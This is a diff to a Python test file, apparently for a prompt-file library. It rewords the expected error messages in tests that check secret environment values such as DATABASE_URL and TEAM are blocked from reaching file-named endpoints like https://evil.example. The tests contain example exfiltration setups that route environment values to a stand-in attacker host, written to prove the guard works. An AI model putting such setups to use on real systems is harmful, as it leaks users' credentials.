@@ -128,7 +128,7 @@ def test_no_name_of_a_variable_makes_it_harmless(
     name: str, internet: Internet, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv(name, VALUE)
-    with pytest.raises(RequestError, match=rf"would send the value of {name} to https://evil\.example"):
+    with pytest.raises(RequestError, match=rf"the value of {name} would go to https://evil\.example"):
         call(loads(write(PLACES["a default"], f"${{env:{name}}}")))
     assert not seen(internet)
 
@@ -140,7 +140,7 @@ def test_a_value_goes_to_a_foreign_server_only_if_the_host_allows_its_variable(
 ) -> None:
     (tmp_path / "options.yaml").write_text("additionalProperties: {user: '${env:TEAM}'}")
     text, env = write(place, "${env:TEAM}"), {"TEAM": place.value}
-    with pytest.raises(RequestError, match="would send the value of TEAM"):
+    with pytest.raises(RequestError, match="the value of TEAM would go to"):
         call(loads(text, base_dir=tmp_path, env=env), asynchronous)
     assert not seen(internet)
     call(loads(text, base_dir=tmp_path, env=env, env_allowed=["TEAM"]), asynchronous)
@@ -257,7 +257,7 @@ def test_the_error_names_place_cause_and_the_lines_that_allow_it(
     with pytest.raises(RequestError) as caught:
         invoke(path)
     assert str(caught.value).splitlines() == [
-        f"{path}:7:37: `inputs.q.default` would send the value of DATABASE_URL to https://evil.example, "
+        f"{path}:7:37: `inputs.q.default`: the value of DATABASE_URL would go to https://evil.example, "
         "which is named only by the file",
         "    If you trust it, set PROMPTY_TRUSTED_ENDPOINTS=https://evil.example in the environment. "
         "In Python you can also list it in `trusted_endpoints`. Or allow any endpoint to get the value: "
@@ -353,7 +353,7 @@ def test_a_prompt_that_runs_as_a_tool_tells_a_foreign_server_no_value(
             text = text.replace(
                 f"kind: anonymous, endpoint: '{FOREIGN}'", "kind: anonymous, endpoint: 'http://[::1]:9'"
             )
-        with pytest.raises(RequestError, match="would send the value of TEAM"):
+        with pytest.raises(RequestError, match="the value of TEAM would go to"):
             turn(loads(text, base_dir=tmp_path), max_retries=0)
         assert not seen(internet)
     turn(loads(write(Place(tool), ""), base_dir=tmp_path, env_allowed=["TEAM"]), max_retries=0)
@@ -390,7 +390,7 @@ def test_a_service_that_the_file_names_gets_nothing_that_the_model_read(
     )
     agent = loads(write(place, ""), base_dir=tmp_path)
     if refused:
-        with pytest.raises(ToolError, match=r"the tool 'api': .*would send the value of TEAM to https://tool\.example"):
+        with pytest.raises(ToolError, match=r"the tool 'api': .*the value of TEAM would go to https://tool\.example"):
             turn(agent, max_retries=0)
         assert not seen(internet)
     else:
@@ -411,7 +411,7 @@ def test_the_client_of_a_service_goes_to_no_foreign_server(tmp_path: Path) -> No
 def test_the_address_of_a_document_holds_no_value(internet: Internet, tmp_path: Path) -> None:
     tool = "tools: [{name: api, kind: openapi, specification: 'https://tool.example/${env:TEAM}.json'}]"
     agent = loads(write(Place(tool), ""), base_dir=tmp_path, env={"TEAM": VALUE})
-    with pytest.raises(ToolError, match="would send the value of TEAM"):
+    with pytest.raises(ToolError, match="the value of TEAM would go to"):
         turn(agent, max_retries=0)
     assert not seen(internet)
 
@@ -425,6 +425,6 @@ def test_a_stored_run_keeps_the_rule(internet: Internet, tmp_path: Path, monkeyp
         data, references = extract_secrets(agent, {})
         stored = json.loads(json.dumps(store_origins(agent)))
         restored = agent.model_copy(update={"provenance": restore_origins(stored, data, references)})
-        with pytest.raises(RequestError, match="would send the value of TEAM"):
+        with pytest.raises(RequestError, match="the value of TEAM would go to"):
             invoke(restored)
     assert not seen(internet)
